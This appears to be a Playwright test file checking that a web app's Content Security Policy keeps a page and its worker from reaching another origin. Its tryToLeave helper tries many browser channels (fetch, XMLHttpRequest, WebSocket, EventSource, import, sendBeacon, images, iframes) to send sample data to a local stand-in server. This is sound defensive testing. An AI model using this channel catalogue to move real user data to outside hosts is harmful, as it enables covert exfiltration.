import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from '@playwright/test';

/** Another origin that welcomes everyone, so that only the policy can keep a base from reaching it. */
let elsewhere: Server;
let address: string;
let visits: string[];

test.beforeEach(async () => {
  visits = [];
  elsewhere = createServer((request, response) => {
    visits.push(request.url ?? '');
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Cross-Origin-Resource-Policy': 'cross-origin', 'Content-Type': 'text/javascript' }).end();
  });
  elsewhere.on('upgrade', (request, socket) => {
    visits.push(request.url ?? '');
    socket.destroy();
  });
  await new Promise<void>((listening) => elsewhere.listen(0, '127.0.0.1', listening));
  address = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
});
test.afterEach(() => {
  elsewhere.close();
});

/** Runs inside the page or a worker, so it can use nothing from outside itself. Tells which ways out were open. */
const tryToLeave = async (target: string): Promise<string[]> => {
  const open: string[] = [];
  const attempt = (way: string, leave: () => Promise<unknown>) =>
    leave().then(
      () => open.push(way),
      () => undefined,
    );
  const event = (source: EventTarget, good: string) =>
    new Promise((resolve, reject) => {
      source.addEventListener(good, resolve);
      source.addEventListener('error', reject);
    });
  await attempt('fetch', () => fetch(`${target}/fetch?bases=ACGT`));
  await attempt('opaque fetch', () => fetch(`${target}/opaque?bases=ACGT`, { mode: 'no-cors' }));
  await attempt('XMLHttpRequest', () => {
    const request = new XMLHttpRequest();
    const answered = event(request, 'load');
    request.open('GET', `${target}/xhr?bases=ACGT`);
    request.send();
    return answered;
  });
  await attempt('WebSocket', async () => event(new WebSocket(`${target.replace('http', 'ws')}/socket?bases=ACGT`), 'open'));
  await attempt('EventSource', async () => event(new EventSource(`${target}/events?bases=ACGT`), 'open'));
  await attempt('import', () => import(/* @vite-ignore */ `${target}/module.js?bases=ACGT`));
  if (typeof document === 'undefined') return open;
  navigator.sendBeacon(`${target}/beacon?bases=ACGT`);
  await attempt('image', async () => {
    const image = new Image();
    image.src = `${target}/image?bases=ACGT`;
    await event(image, 'load');
  });
  await attempt('frame', async () => {
    const frame = document.createElement('iframe');
    frame.src = `${target}/frame?bases=ACGT`;
    const loaded = event(frame, 'load');
    document.body.append(frame);
    await loaded;
    // A refused frame loads the browser's own error page; only the server's count tells.
    throw new Error('refused');
  });
  return open;
};

test('positive control: without the policy the same attempts do leave', async ({ browser, baseURL }) => {
  const context = await browser.newContext({ bypassCSP: true });
  const unguarded = await context.newPage();
  await unguarded.goto(baseURL!);
  expect(await unguarded.evaluate(tryToLeave, address)).toContain('fetch');
  expect(visits).toContain('/fetch?bases=ACGT');
  await context.close();
});

test('no sequence leaves the page', async ({ page }) => {
  await page.goto('/');
  expect(await page.evaluate(tryToLeave, address)).toEqual([]);
  expect(visits).toEqual([]);
});

test('no sequence leaves the worker', async ({ page }) => {
  const started = page.waitForEvent('worker');
  await page.goto('/');
  const worker = await started;
  expect(await worker.evaluate(tryToLeave, address)).toEqual([]);
  expect(visits).toEqual([]);
});
